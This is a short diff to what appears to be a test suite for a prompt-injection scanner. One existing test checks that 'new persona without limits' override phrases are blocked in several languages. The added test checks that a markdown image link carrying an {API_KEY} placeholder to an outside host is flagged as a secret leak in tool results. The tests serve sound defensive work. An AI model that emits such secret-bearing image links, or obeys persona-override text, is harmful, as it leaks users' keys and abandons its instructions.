@@ -142,3 +142,10 @@ def test_new_persona_without_limits_blocks_in_each_language(text: str, rule: str
     verdict = scan(text)
     assert rule in verdict.rules
     assert verdict.blocked
+
+
+def test_a_readmes_coverage_badge_carries_no_secret_off() -> None:
+    badge = "[![Coverage](https://img.shields.io/codecov/c/github/acme/lib?token=ABC123&style=flat)](https://codecov.io)"
+    assert "secret_in_link" not in scan(badge, "tool_result").rules
+    stolen = "![status](https://img-cdn.example.net/s.png?token={API_KEY}&style=flat)"
+    assert "secret_in_link" in scan(stolen, "tool_result").rules
